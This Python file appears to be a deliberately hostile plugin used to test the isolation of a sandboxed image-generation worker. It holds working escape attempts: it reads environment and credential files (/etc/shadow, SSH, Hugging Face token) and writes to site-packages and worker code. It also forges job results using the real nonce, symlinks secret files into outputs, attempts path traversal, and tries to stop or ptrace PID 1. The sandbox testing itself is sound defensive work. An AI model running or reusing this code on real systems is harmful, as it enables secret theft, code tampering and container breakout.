"""Hostile test plugin. Never import this on the host: the test suite runs it in the sandbox.

Import time (every mode): tries the network, writes to the image, its own code, the
site-packages and the worker, reads the environment and other processes' environments, looks
for the engine socket and for secrets, checks for state left by an earlier job, and prints a
forged result line. Everything it sees is reported in ``hostile.observations.json``.

Modes, from the prompt (``hostile:<mode>``):
  observe    (default) also connect to ``tcp=HOST:PORT`` from the hook
  forge      write a result line with the job's real nonce to every pipe it can find
             (from extra_outputs, just before the worker's own result line)
  symlink    plant symlinks in the output directory behind the API's back
  traversal  ask for an extra output named ``../escape.txt``
  crash      raise from the hook
  exit       call sys.exit from the hook
  bad_return return something that is not (prompt, negative)
  stop_init  try to stop or take over PID 1 (ptrace from a child left behind, SIGSTOP,
             /proc/1/mem, process_vm_readv), print what happened to stderr, then exit 9 so
             that a stopped init would keep the container (and the job) alive
"""

import ctypes
import errno
import json
import os
import signal
import socket
import stat
import sys
import sysconfig
import time

OBS = {"import": {}, "hook": {}}
MODE = {"mode": "observe"}


def _try(fn):
    try:
        extra = fn()
    except OSError as exc:
        code = exc.errno or 0
        return {"ok": False, "errname": errno.errorcode.get(code, str(code))}
    except Exception as exc:  # report, never crash the import
        return {"ok": False, "error": f"{type(exc).__name__}: {exc}"}
    return {"ok": True, **(extra or {})}


def _write(path):
    def go():
        with open(path, "a") as f:
            f.write("owned by hostile\n")

    return _try(go)


def _tcp(host, port):
    def go():
        with socket.create_connection((host, int(port)), timeout=3):
            pass

    return _try(go)


def _read(path):
    def go():
        with open(path, "rb") as f:
            data = f.read(1 << 16)
        return {"bytes": len(data), "text": data.replace(b"\0", b"\n").decode("utf-8", "replace")}

    return _try(go)


def _dns():
    try:
        socket.getaddrinfo("example.com", 443)
    except socket.gaierror as exc:
        return {"ok": False, "gai_errno": exc.errno}
    return {"ok": True}


seen = OBS["import"]
seen["env"] = dict(os.environ)
proc1 = _read("/proc/1/environ")
seen["proc1_environ_keys"] = sorted(
    line.split("=", 1)[0] for line in proc1.pop("text", "").splitlines() if "=" in line
)
seen["proc1_environ"] = proc1
seen["write_root"] = _write("/hostile-was-here")
seen["write_own_code"] = _write(__file__)
seen["write_plugins_dir"] = _write(os.path.join(os.path.dirname(__file__), "new.py"))
seen["write_site_packages"] = _write(os.path.join(sysconfig.get_paths()["purelib"], "evil.pth"))
seen["write_worker"] = _write("/opt/assetmgr/sandbox/worker/__init__.py")
seen["write_job_root"] = _write("/job/escape.txt")
seen["plugins_visible"] = sorted(os.listdir("/plugins")) if os.path.isdir("/plugins") else None
seen["tcp_public"] = _tcp("1.1.1.1", 443)
seen["dns"] = _dns()
seen["docker_sock"] = [p for p in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(p)]
seen["secret_files"] = [
    p
    for p in (
        os.path.expanduser("~/.cache/huggingface/token"),
        "/root/.ssh",
        "/root/.docker/config.json",
        "/etc/shadow",
    )
    if os.access(p, os.R_OK)
]
seen["persist_marker_before"] = os.path.exists("/tmp/hostile-persist")
seen["write_tmp"] = _write("/tmp/hostile-persist")
seen["uid"] = os.getuid()
with open("/proc/mounts") as f:
    seen["plugin_mounts"] = {
        parts[1]: parts[3].split(",")
        for parts in (line.split() for line in f)
        if len(parts) > 3 and parts[1].startswith("/plugins")
    }
print(
    '{"type":"result","job_id":"x","nonce":"' + "0" * 32 + '","data":{"forged":true}}', flush=True
)


def _parse(prompt):
    for word in prompt.split():
        if word.startswith("hostile:"):
            MODE["mode"] = word.split(":", 1)[1]
        elif word.startswith("tcp="):
            MODE["tcp"] = word[4:]


def _forge():
    with open("/job/job.json") as f:
        spec = json.load(f)
    line = (
        json.dumps(
            {
                "type": "result",
                "job_id": spec["job_id"],
                "nonce": spec["nonce"],
                "outputs": [],
                "data": {"forged": True},
            }
        ).encode()
        + b"\n"
    )
    hit = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if fd > 2 and stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, line)
                hit.append(fd)
        except OSError:
            pass
    OBS["hook"]["forged_fds"] = hit


def _errname(code):
    return errno.errorcode.get(code, str(code))


def _init_state():
    with open("/proc/1/stat") as f:
        return f.read().rsplit(")", 1)[1].split()[0]


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _stop_init():
    libc = ctypes.CDLL(None, use_errno=True)
    seen = {"init_state_before": _init_state()}
    try:
        os.close(os.open("/proc/1/mem", os.O_RDWR))
        seen["proc1_mem"] = "ok"
    except OSError as exc:
        seen["proc1_mem"] = _errname(exc.errno)
    buf = ctypes.create_string_buffer(8)
    local = _IoVec(ctypes.cast(buf, ctypes.c_void_p), 8)
    remote = _IoVec(0x10000, 8)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    got = libc.process_vm_readv(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    seen["process_vm_readv"] = "ok" if got >= 0 else _errname(ctypes.get_errno())
    os.kill(1, signal.SIGSTOP)
    read_end, write_end = os.pipe()
    if os.fork() == 0:  # the tracer stays behind after the worker exits
        rc = libc.ptrace(0x4206, 1, None, None)  # PTRACE_SEIZE
        code = ctypes.get_errno()
        if rc == 0:
            libc.ptrace(0x4207, 1, None, None)  # PTRACE_INTERRUPT: stop it
        os.write(write_end, (_errname(code) if rc else "ok").encode())
        while True:
            time.sleep(60)
    seen["ptrace_seize"] = os.read(read_end, 64).decode()
    time.sleep(0.5)
    seen["init_state_after"] = _init_state()
    sys.stderr.write("stop_init " + json.dumps(seen, sort_keys=True) + "\n")
    sys.stderr.flush()
    os._exit(9)


def prompt_transform(prompt, negative, ctx):
    _parse(prompt)
    mode = MODE["mode"]
    OBS["hook"]["mode"] = mode
    OBS["hook"]["nonce_in_ctx"] = any("nonce" in str(k) for k in vars(ctx))
    if "tcp" in MODE:
        host, _, port = MODE["tcp"].rpartition(":")
        OBS["hook"]["tcp_host"] = _tcp(host, port)
    if mode == "symlink":
        os.symlink("/etc/passwd", "/job/out/leak.png")
        os.symlink("/etc/shadow", "/job/out/secret.txt")
    elif mode == "crash":
        raise RuntimeError("boom from the hostile plugin")
    elif mode == "exit":
        sys.exit(3)
    elif mode == "bad_return":
        return 42
    elif mode == "stop_init":
        _stop_init()
    return prompt + " [hostile]", negative


def sampler_provider():
    return {"hostile-sampler": lambda *args, **kw: None}


def post_process(image, ctx):
    OBS["hook"]["post_process_size"] = list(image.size)
    return image


def extra_outputs(ctx):
    if MODE["mode"] == "forge":  # last hook before the worker's own result line
        _forge()
        return {}
    if MODE["mode"] == "traversal":
        return {"../escape.txt": "escaped"}
    return {"observations.json": json.dumps(OBS, default=str)}
